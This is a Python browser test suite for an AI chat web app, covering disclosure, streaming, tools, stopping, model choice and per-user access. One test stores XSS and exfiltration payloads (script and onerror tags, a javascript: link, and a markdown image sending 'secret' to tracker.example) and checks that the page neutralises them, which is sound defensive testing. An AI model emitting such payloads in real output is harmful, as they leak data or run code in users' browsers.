"""The web chat against the running system (P5): signing in, streaming, tools and sources, stopping."""

import json
import re

import pytest
from playwright.async_api import expect

from tests.browser.conftest import Visit

pytestmark = pytest.mark.browser

HTTP = re.compile(r"^https?://")
LONG = " ".join(f"word{n}" for n in range(60))


async def test_the_first_screen_says_that_it_is_an_ai_and_that_the_model_is_a_demo(visit: Visit) -> None:
    visitor = await visit(signed_in=False)
    await expect(visitor.page.get_by_text("You will be talking to an AI assistant, not a person.")).to_be_visible()
    await expect(visitor.page.get_by_text("Scripted demo model")).to_be_visible()
    await visitor.sign_in()
    await expect(visitor.page.get_by_text("You are talking to an AI.")).to_be_visible()
    await expect(visitor.page.get_by_text("Scripted demo model")).to_be_visible()


async def test_a_newcomer_is_told_what_the_assistant_can_do(visit: Visit) -> None:
    """Nothing is scripted here: the demo model answers."""
    visitor = await visit()
    await visitor.page.get_by_role("button", name="What can you do?").click()
    await expect(visitor.replies).to_contain_text("demo")
    await visitor.settled()
    await visitor.page.get_by_role("textbox", name="Message").fill("Search the web for the Great Barrier Reef")
    await visitor.page.keyboard.press("Enter")
    await expect(visitor.page.locator("details.sources")).to_be_visible()


async def test_words_appear_as_they_are_written_and_typing_shows_for_the_whole_turn(visit: Visit) -> None:
    """T4."""
    visitor = await visit()
    await visitor.model({"text": LONG, "delay_s": 0.3, "token_delay_ms": 40})
    await visitor.write("hello")
    await expect(visitor.typing).to_be_visible()
    await expect(visitor.replies).to_contain_text("word3")
    assert "word59" not in await visitor.replies.inner_text()
    await expect(visitor.typing).to_be_visible()
    await expect(visitor.page.get_by_test_id("announcer")).to_be_empty()
    await visitor.settled()
    await expect(visitor.page.get_by_test_id("announcer")).to_have_text(LONG)
    assert await visitor.read() == [("user", "hello"), ("assistant", LONG)] == await visitor.stored()


async def test_a_new_conversation_is_named_and_listed_without_asking_for_it(visit: Visit) -> None:
    """L5."""
    visitor = await visit()
    await visitor.model({"text": "Hello."})
    asked: list[str] = []
    visitor.page.on("request", lambda request: asked.append(f"{request.method} {request.url}"))
    await visitor.write("tell me of lighthouses")
    await expect(visitor.page.get_by_role("heading", level=1)).to_have_text("tell me of lighthouses")
    link = visitor.page.get_by_role("navigation").get_by_role("link", name="tell me of lighthouses")
    await expect(link).to_have_attribute("aria-current", "page")
    await visitor.settled()
    # The page's own files come when the browser is idle, the lists of models and agents beside everything else.
    beside = ("/assets/", "/models", "/agents")
    asked = [request for request in asked if not any(part in request for part in beside)]
    assert asked[0] == f"POST {visitor.system.url}/chat"
    assert not [request for request in asked if "/messages" in request]


async def test_a_search_shows_its_line_then_its_input_its_output_and_the_sources(visit: Visit) -> None:
    """L6."""
    visitor = await visit()
    await visitor.model(
        {"text": "Let me look.", "calls": [{"name": "web_search", "args": {"query": "honey bee"}}]},
        {"text": "I found it.", "delay_s": 0.5},
    )
    await visitor.write("search for honey bees")
    tool = visitor.page.locator("details.tool")
    await expect(tool.locator("summary")).to_contain_text("the web")
    await visitor.settled()
    await expect(tool.locator("summary")).to_contain_text("Searched the web")
    await expect(tool.locator("pre").first).to_be_hidden()
    await tool.locator("summary").click()
    await expect(tool.locator("pre").first).to_contain_text('"query": "honey bee"')
    await expect(tool.locator("pre").last).to_contain_text('"snippet"')
    sources = visitor.page.locator("details.sources")
    await sources.locator("summary").click()
    await expect(sources.get_by_role("link").first).to_have_attribute("href", HTTP)
    assert [text for _, text in await visitor.read()] == ["search for honey bees", "Let me look. I found it."]
    before = await visitor.read()
    await visitor.page.reload()
    await expect(visitor.page.locator("details.sources")).to_have_count(1)
    assert await visitor.read() == before


async def test_stopping_keeps_what_was_said_and_stores_the_same(visit: Visit) -> None:
    visitor = await visit()
    await visitor.model({"text": LONG, "token_delay_ms": 80})
    await visitor.write("hello")
    await expect(visitor.replies).to_contain_text("word5")
    await visitor.page.get_by_role("button", name="Stop").click()
    await expect(visitor.page.get_by_text("You stopped this reply.")).to_be_visible()
    await visitor.settled()
    (_, question), (_, said) = await visitor.read()
    assert question == "hello"
    assert "word5" in said
    assert "word59" not in said
    assert (await visitor.stored())[1][1].split() == said.removesuffix("You stopped this reply.").split()
    await visitor.model({"text": "Going on."})
    await visitor.write("go on")
    await expect(visitor.replies.last).to_contain_text("Going on.")


async def test_a_message_sent_while_a_reply_streams_is_answered_too_and_in_order(visit: Visit) -> None:
    visitor = await visit()
    await visitor.model({"text": LONG, "token_delay_ms": 40}, {"text": "And the second answer."})
    await visitor.write("first")
    await expect(visitor.replies).to_contain_text("word3")
    await visitor.write("second")
    await expect(visitor.page.get_by_text("Next in line")).to_be_visible()
    await expect(visitor.replies.last).to_contain_text("And the second answer.", timeout=15_000)
    await visitor.settled()
    expected = [("user", "first"), ("assistant", LONG), ("user", "second"), ("assistant", "And the second answer.")]
    assert await visitor.read() == expected == await visitor.stored()


async def test_a_message_taken_in_by_the_running_turn_stands_before_its_reply(visit: Visit) -> None:
    """No words have gone out when the second message arrives, so one reply answers both (T2)."""
    visitor = await visit()
    await visitor.model(
        {"calls": [{"name": "web_search", "args": {"query": "coffee"}}], "delay_s": 1.5},
        {"text": "One answer for both."},
    )
    await visitor.write("first")
    await expect(visitor.typing).to_be_visible()
    await visitor.write("second")
    await expect(visitor.replies).to_contain_text("One answer for both.", timeout=15_000)
    await visitor.settled()
    expected = [("user", "first"), ("user", "second"), ("assistant", "One answer for both.")]
    assert await visitor.read() == expected == await visitor.stored()


async def test_a_failing_model_ends_in_one_honest_line_and_typing_stops(visit: Visit) -> None:
    """B031."""
    visitor = await visit()
    await visitor.model(*[{"error": 500}] * 4)
    await visitor.write("hello")
    await visitor.settled()
    (_, honest) = (await visitor.read())[1]
    assert honest
    assert "500" not in honest
    assert (await visitor.stored())[1] == ("assistant", honest)


async def test_text_of_a_reply_cannot_load_pictures_run_code_or_lead_astray(visit: Visit) -> None:
    """No such text leaves the engine; it stands here as if it had."""
    visitor = await visit()
    await visitor.model({"text": "Hi."})
    await visitor.write("hello")
    await visitor.settled()
    text = (
        "Hi ![x](http://tracker.example/x.png?said=secret) <img src=x onerror=alert(1)> "
        "<script>alert(1)</script> [go](javascript:alert(1)) [ok](https://example.org/)"
    )
    await visitor.system.sql(
        "update messages set parts = %s::jsonb where user_id = %s and role = 'assistant' returning id",
        [json.dumps([{"type": "text", "text": text, "state": "done"}]), visitor.sub],
    )
    await visitor.page.reload()
    await expect(visitor.replies.get_by_role("link", name="ok")).to_be_visible()
    assert await visitor.replies.locator("img, script").count() == 0
    links = [await link.get_attribute("href") for link in await visitor.replies.get_by_role("link").all()]
    assert links == ["http://tracker.example/x.png?said=secret", "https://example.org/"]


async def test_the_model_can_be_chosen_for_a_message(visit: Visit) -> None:
    """L2."""
    visitor = await visit()
    await visitor.model({"text": "Largely so."})
    await visitor.page.get_by_label("Model").select_option(label="Large")
    await visitor.write("hello")
    await expect(visitor.replies).to_contain_text("Largely so.")
    (request,) = await visitor.system.requests(visitor.sub)
    assert request["model"] == "large"


async def test_a_conversations_model_is_shown_when_it_is_opened_and_can_be_left_again(visit: Visit) -> None:
    visitor = await visit()
    await visitor.model(*[{"text": f"Reply {n}."} for n in range(3)])
    model = visitor.page.get_by_label("Model")
    await model.select_option(label="Large")
    await visitor.write("one")
    await expect(visitor.replies).to_contain_text("Reply 0.")
    await visitor.settled()
    await visitor.page.reload()
    await expect(model).to_have_value("large")
    await visitor.write("two")
    await expect(visitor.replies.last).to_contain_text("Reply 1.")
    await visitor.settled()
    async with visitor.page.expect_response(lambda answer: answer.request.method == "PATCH") as changed:
        await model.select_option(label="Model: automatic")
    assert (await (await changed.value).json())["modelId"] is None
    await visitor.page.reload()
    await expect(visitor.replies).to_have_count(2)
    await expect(model).to_have_value("")
    await visitor.write("three")
    await expect(visitor.replies.last).to_contain_text("Reply 2.")
    requests = await visitor.system.requests(visitor.sub)
    assert [request["model"] for request in requests] == ["large", "large", "small"]


async def test_conversations_are_listed_and_open_again(visit: Visit) -> None:
    visitor = await visit()
    for topic in ("apples", "pears"):
        await visitor.page.get_by_role("link", name="New conversation").click()
        await visitor.model({"text": f"All about {topic}."})
        await visitor.write(topic)
        await expect(visitor.replies).to_contain_text(f"All about {topic}.")
        await visitor.settled()
    links = visitor.page.get_by_role("navigation").get_by_role("link")
    await expect(links).to_have_text(["pears", "apples"])
    await links.filter(has_text="apples").click()
    await expect(visitor.replies).to_have_text(["The assistant said: All about apples."])
    await visitor.page.go_back()
    await expect(visitor.replies).to_have_text(["The assistant said: All about pears."])


async def test_a_conversation_of_somebody_else_is_not_there(visit: Visit) -> None:
    visitor, other = await visit(), await visit()
    await visitor.model({"text": "Mine."})
    await visitor.write("hello")
    await expect(visitor.replies).to_contain_text("Mine.")
    other.expected = "404 (Not Found)"
    await other.open(await visitor.conversation_id())
    await expect(other.page.get_by_role("alert")).to_contain_text("There is no such conversation.")
    assert await other.read() == []
